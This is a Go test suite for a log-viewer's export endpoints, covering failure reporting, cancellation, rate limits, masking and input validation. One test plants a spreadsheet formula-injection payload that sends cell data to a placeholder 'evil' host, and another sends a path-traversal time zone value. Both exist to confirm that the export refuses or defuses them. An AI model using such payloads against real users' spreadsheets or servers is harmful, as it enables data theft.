package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/logpane/logpane/app/fault"
	"github.com/logpane/logpane/app/logs"
	"github.com/logpane/logpane/app/redact"
	"github.com/logpane/logpane/app/wire"
	"github.com/logpane/logpane/bff/simulate"
)

// eventually waits until something holds that other processes bring about.
func eventually(t *testing.T, what string, ok func() bool) {
	t.Helper()
	often := time.NewTicker(5 * time.Millisecond)
	defer often.Stop()
	for late := time.Now().Add(20 * time.Second); !ok(); <-often.C {
		if time.Now().After(late) {
			t.Fatalf("not in time: %s", what)
		}
	}
}

// two connects deepset and Algolia.
func two(t *testing.T, o simulate.Options) (*simulate.Server, *program, *user, [2]string) {
	sim, flags := simulated(t, o)
	p := start(t, t.TempDir(), flags...)
	u := p.user(t)
	c := u.connect("deepset", "sim", simulate.DeepsetWorkspace, map[string]string{"api_key": simulate.DeepsetKey})
	a := u.connect("algolia", "sim", simulate.AlgoliaApp, map[string]string{"api_key": simulate.AlgoliaKey})
	return sim, p, u, [2]string{address(c, "pipelines", "rag-prod"), address(a)}
}

// TestExport_TargetThatFailsMidway lets one of two vendors refuse from its fourth call
// on: the file holds all of the other, and says what is missing in every format.
func TestExport_TargetThatFailsMidway(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2, Entries: 2000})
	q := "?" + url.Values{"src": {src[0], src[1]}, "from": {"all"}, "cols": {"src"}}.Encode()
	run := func(format string) (string, *http.Response) {
		sim.ClearFaults("deepset")
		sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 3})
		sim.Fault("deepset", simulate.Fault{Status: 403})
		return u.export("/api/logs." + format + q)
	}
	others := len(sim.Entries("algolia"))

	body, resp := run("ndjson")
	entries, end := lines(t, body)
	mine := 0
	for i, e := range entries {
		if e.Src == src[0] {
			mine++
		}
		if i > 0 && e.Time.After(entries[i-1].Time) {
			t.Fatalf("entry %d of %s after one of %s", i, e.TimeText, entries[i-1].TimeText)
		}
	}
	if mine < 100 || len(entries)-mine != others {
		t.Errorf("%d and %d entries, want some and %d", mine, len(entries)-mine, others)
	}
	if end.Complete || end.Entries != len(entries) || !strings.Contains(end.Reason, src[0]+" failed: ") || resp.Trailer.Get("Logpane-Complete") != "false" {
		t.Errorf("the end says %+v, the trailers %v", end, resp.Trailer)
	}
	failed := 0
	for _, c := range end.Coverage {
		if c.State == logs.Failed && c.Src == src[0] && !c.To.IsZero() {
			failed++
		}
	}
	if failed != 1 {
		t.Errorf("the coverage %+v does not tell from where on it failed", end.Coverage)
	}

	body, _ = run("csv")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != len(entries)+2 {
		t.Fatalf("csv: %d rows for %d entries, %v", len(rows), len(entries), err)
	}
	if last := rows[len(rows)-1]; !strings.HasPrefix(last[0], "# incomplete: "+src[0]+" failed: ") || last[1] != "" {
		t.Errorf("csv ends with %q", last)
	}
	body, _ = run("json")
	var doc struct {
		Entries []logs.Entry
		End     lastLine
	}
	if err := json.Unmarshal([]byte(body), &doc); err != nil || len(doc.Entries) != len(entries) || doc.End.Complete || doc.End.Reason != end.Reason {
		t.Errorf("json: %d entries, end %+v, %v", len(doc.Entries), doc.End, err)
	}
	if body, _ = run("md"); !strings.Contains(body[strings.LastIndexByte(strings.TrimSpace(body), '\n'):], "**Incomplete:** ") {
		t.Errorf("md ends with %s", body[len(body)-300:])
	}
}

// TestExport_TargetThatRecovers fails for longer than a call is tried again, and is
// waited for; one that wants to be left alone for too long is not.
func TestExport_TargetThatRecovers(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2, Entries: 2000})
	sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 3})
	sim.Fault("deepset", simulate.Fault{Status: 503, Count: 4})
	path := "/api/logs.ndjson?from=all&src=" + url.QueryEscape(src[0])
	body, _ := u.export(path)
	entries, end := lines(t, body)
	if !end.Complete || len(entries) != len(sim.Entries(deepTruth)) {
		t.Errorf("%d entries of %d, %+v", len(entries), len(sim.Entries(deepTruth)), end)
	}
	sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 3})
	sim.Fault("deepset", simulate.Fault{Status: 429, RetryAfter: 300})
	body, _ = u.export(path)
	if entries, end = lines(t, body); end.Complete || len(entries) < 100 || !strings.Contains(end.Reason, " failed: ") {
		t.Errorf("%d entries, %+v", len(entries), end)
	}
}

func TestExport_FailureAtOnceIsAProblem(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2})
	// Of two the other is read.
	sim.Fault("deepset", simulate.Fault{Status: 403})
	body, _ := u.export("/api/logs.ndjson?from=all&src=" + url.QueryEscape(src[0]+","+src[1]))
	if entries, end := lines(t, body); len(entries) != len(sim.Entries("algolia")) || end.Complete {
		t.Errorf("%d entries, %+v", len(entries), end)
	}
	sim.ClearFaults("deepset")
	for _, c := range []struct {
		fault simulate.Fault
		kind  fault.Kind
	}{
		{simulate.Fault{Status: 403}, fault.Forbidden},
		{simulate.Fault{Status: 401}, fault.Unauthenticated},
		{simulate.Fault{Status: 429, RetryAfter: 77}, fault.RateLimited},
	} {
		sim.Fault("deepset", c.fault)
		f := u.call("GET", "/api/logs.csv?src="+url.QueryEscape(src[0]), nil, nil)
		if f == nil || f.Kind != c.kind || int(f.RetryAfter.Seconds()) < c.fault.RetryAfter-1 {
			t.Errorf("%+v: %+v", c.fault, f)
		}
		sim.ClearFaults("deepset")
	}
}

// TestExport_ReaderWhoLeavesStopsTheCalls hangs a vendor's call and goes away.
func TestExport_ReaderWhoLeavesStopsTheCalls(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2, Entries: 3000})
	sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 3})
	sim.Fault("deepset", simulate.Fault{DelayMS: 600_000})
	sim.ClearCalls("deepset")
	ctx, leave := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, "GET", u.base+"/api/logs.ndjson?src="+url.QueryEscape(src[0]), nil)
	req.Header.Set(wire.Header, "1")
	resp, err := u.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := bufio.NewReader(resp.Body).ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the call that hangs is next", func() bool { return len(sim.Calls("deepset")) >= 3 })
	began := time.Now()
	leave()
	eventually(t, "nothing runs", func() bool { return underWay(u) == 0 })
	if took := time.Since(began); took > 2*time.Second {
		t.Errorf("it took %s", took)
	}
	given := func() bool {
		calls := sim.Calls("deepset")
		return len(calls) == 3 || len(calls) == 4 && calls[3].Status == 0 // it was given up, or not begun
	}
	eventually(t, "no call is left", given)
	sim.ClearFaults("deepset")
	u.must("GET", "/api/connections", nil, nil)
	if !given() {
		t.Errorf("calls after the reader had left: %+v", sim.Calls("deepset"))
	}
}

// underWay returns how many exports the server says that it writes.
func underWay(u *user) int {
	u.t.Helper()
	resp := u.ask("/metrics")
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	_, after, ok := strings.Cut(string(text), "\nlogpane_exports_running ")
	if err != nil || !ok {
		u.t.Fatalf("no count of exports: %v", err)
	}
	n, _, _ := strings.Cut(after, "\n")
	count, err := strconv.Atoi(n)
	if err != nil {
		u.t.Fatal(err)
	}
	return count
}

// TestExport_SlowReaderStopsTheWalk reads nothing for a while: the vendor is not
// called meanwhile, and nothing is lost.
func TestExport_SlowReaderStopsTheWalk(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2, Entries: 12_000})
	dial := &net.Dialer{}
	slow := &http.Client{Jar: u.http.Jar, Transport: &http.Transport{DisableCompression: true,
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			c, err := dial.DialContext(ctx, network, addr)
			if err == nil {
				err = c.(*net.TCPConn).SetReadBuffer(128 << 10) // what the system holds beyond it is little, then
			}
			return c, err
		}}}
	sim.ClearCalls("deepset")
	req, _ := http.NewRequest("GET", u.base+"/api/logs.ndjson?from=all&src="+url.QueryEscape(src[0]), nil)
	req.Header.Set(wire.Header, "1")
	resp, err := slow.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	calls, still := 0, time.Now()
	eventually(t, "the calls cease", func() bool {
		if n := len(sim.Calls("deepset")); n != calls {
			calls, still = n, time.Now()
		}
		return time.Since(still) > time.Second
	})
	all := len(sim.Entries(deepTruth))
	if calls*100 > all*3/4 {
		t.Errorf("%d calls were made for %d entries while nobody read", calls, all)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(body, []byte("\n")) - 1; n != all || resp.Trailer.Get("Logpane-Complete") != "true" {
		t.Errorf("%d entries of %d, trailers %v", n, all, resp.Trailer)
	}
}

func TestExport_EndOfTheSessionEndsIt(t *testing.T) {
	for name, c := range map[string]struct {
		end  func(p *program, u *user)
		says string
	}{
		"logged out":     {func(_ *program, u *user) { u.must("DELETE", "/api/session", nil, nil) }, "session has ended"},
		"server stopped": {func(p *program, _ *user) { go p.stop() }, "server restarts"},
	} {
		t.Run(name, func(t *testing.T) {
			sim, p, u, src := two(t, simulate.Options{Seed: 2, Entries: 3000})
			sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 3})
			sim.Fault("deepset", simulate.Fault{DelayMS: 600_000})
			resp := u.ask("/api/logs.csv?cols=id&src=" + url.QueryEscape(src[0]))
			in := bufio.NewReader(resp.Body)
			first, err := in.ReadString('\n')
			if err != nil || first != "time,id\r\n" {
				t.Fatalf("%q %v", first, err)
			}
			began := time.Now()
			c.end(p, u)
			rest, err := io.ReadAll(in)
			if err != nil {
				t.Fatal(err)
			}
			if took := time.Since(began); took > time.Second {
				t.Errorf("it took %s", took)
			}
			rows, err := csv.NewReader(strings.NewReader(string(rest))).ReadAll()
			if err != nil || len(rows) < 100 {
				t.Fatalf("%d rows, %v", len(rows), err)
			}
			if last := rows[len(rows)-1][0]; !strings.HasPrefix(last, "# incomplete: ") || !strings.Contains(last, c.says) {
				t.Errorf("it ends with %q", last)
			}
		})
	}
}

func TestExport_TooManyAtOnceAreRefused(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2, Entries: 3000})
	for range 4 {
		sim.ClearFaults("deepset")
		sim.Fault("deepset", simulate.Fault{DelayMS: 1, Count: 2})
		sim.Fault("deepset", simulate.Fault{DelayMS: 600_000})
		resp := u.ask("/api/logs.ndjson?src=" + url.QueryEscape(src[0]))
		if _, err := bufio.NewReader(resp.Body).ReadString('\n'); err != nil || resp.StatusCode != 200 {
			t.Fatal(resp.Status, err)
		}
	}
	f := u.call("GET", "/logs.csv?src="+url.QueryEscape(src[1]), nil, nil)
	if f == nil || f.Kind != fault.RateLimited || f.RetryAfter <= 0 || !strings.Contains(f.Msg, "4 exports") {
		t.Errorf("%+v", f)
	}
}

func TestExport_PersonalDataIsMaskedUnlessRevealed(t *testing.T) {
	_, _, u, src := two(t, simulate.Options{Seed: 2})
	var vendors wire.Vendors
	u.must("GET", "/api/vendors", nil, &vendors)
	var page wire.Page
	u.must("GET", "/api/logs?limit=200&src="+url.QueryEscape(src[1]), nil, &page)
	if len(page.Entries) < 100 {
		t.Fatalf("%d entries", len(page.Entries))
	}
	for _, reveal := range []bool{false, true} {
		body, _ := u.export(fmt.Sprintf("/api/logs.ndjson?limit=200&reveal=%t&src=%s", reveal, url.QueryEscape(src[1])))
		entries, end := lines(t, body)
		if end.Masked == reveal || len(entries) != len(page.Entries) {
			t.Fatalf("%d entries, %+v", len(entries), end)
		}
		lens := redact.Lens{Reveal: reveal, Key: maskKey(t, vendors)}
		changed := 0
		for i, e := range entries {
			want := lens.Entry(page.Entries[i])
			if string(e.Raw) != string(want.Raw) || e.Summary != want.Summary {
				t.Fatalf("entry %d: %s\nwant %s", i, e.Raw, want.Raw)
			}
			if string(e.Raw) != string(page.Entries[i].Raw) {
				changed++
			}
		}
		if changed == 0 && !reveal {
			t.Error("nothing was masked")
		}
	}
}

func TestExport_CellsAreNoFormulas(t *testing.T) {
	sim, _, u, src := two(t, simulate.Options{Seed: 2})
	attack := `=HYPERLINK("http://evil/?x="&A1,"click")`
	at := time.Now().UTC().Format("2006-01-02T15:04:05.000000Z")
	raw, _ := json.Marshal(map[string]any{"log_id": "=1+1", "message": attack, "logged_at": at, "level": "info", "origin": "haystack", "exceptions": nil, "extra_fields": map[string]any{}})
	if err := sim.Append("deepset", raw); err != nil {
		t.Fatal(err)
	}
	body, _ := u.export("/api/logs.csv?limit=1&cols=id,summary,raw&src=" + url.QueryEscape(src[0]))
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if rows[1][2] != "'"+attack {
		t.Errorf("cells %q", rows[1])
	}
}

func TestExport_BadInputIsRefusedInPlainWords(t *testing.T) {
	_, _, u, src := two(t, simulate.Options{Seed: 2})
	for query, says := range map[string]string{
		"tz=Mars/Phobos": "Europe/Berlin", "tz=Local": "Europe/Berlin", "tz=../etc/passwd": "no time zone", "cols=a+b": "no column", "limit=0": "number",
		"limit=x": "number", "reveal=2": "neither", "form=all": "no parameter", "q=level:": "column", "from=tomorrow-ish": "no time", "from=now&to=now-1h": "not before",
		"limit=1&limit=2": "more than once",
	} {
		for _, path := range []string{wire.PathLogs, "/logs"} {
			f := u.call("GET", path+".csv?src="+url.QueryEscape(src[0])+"&"+query, nil, nil)
			if f == nil || f.Kind != fault.Invalid || !strings.Contains(f.Msg, says) {
				t.Errorf("%s?%s: %v", path, query, f)
			}
		}
	}
	// What stands in the address of a page is taken, whatever it means there.
	u.export("/logs.md?wrap=1&sort=-took&sel=x%00y&v=1&tz=Europe/Berlin&cols=level,target,took&live=1&src=" + url.QueryEscape(src[0]))

	resp := u.ask("/logs.csv?src="+url.QueryEscape(src[0]), wire.Header, "")
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("without the header: %s", resp.Status)
	}
	req, _ := http.NewRequest("HEAD", u.base+"/logs.csv?src="+url.QueryEscape(src[0]), nil)
	req.Header.Set(wire.Header, "1")
	if resp, err := u.http.Do(req); err != nil || resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Errorf("HEAD: %v %v", resp.Status, err)
	}
}

func maskKey(t *testing.T, v wire.Vendors) uint64 {
	t.Helper()
	key, err := strconv.ParseUint(v.MaskKey, 16, 64)
	if err != nil || key == 0 {
		t.Fatalf("the key %q: %v", v.MaskKey, err)
	}
	return key
}
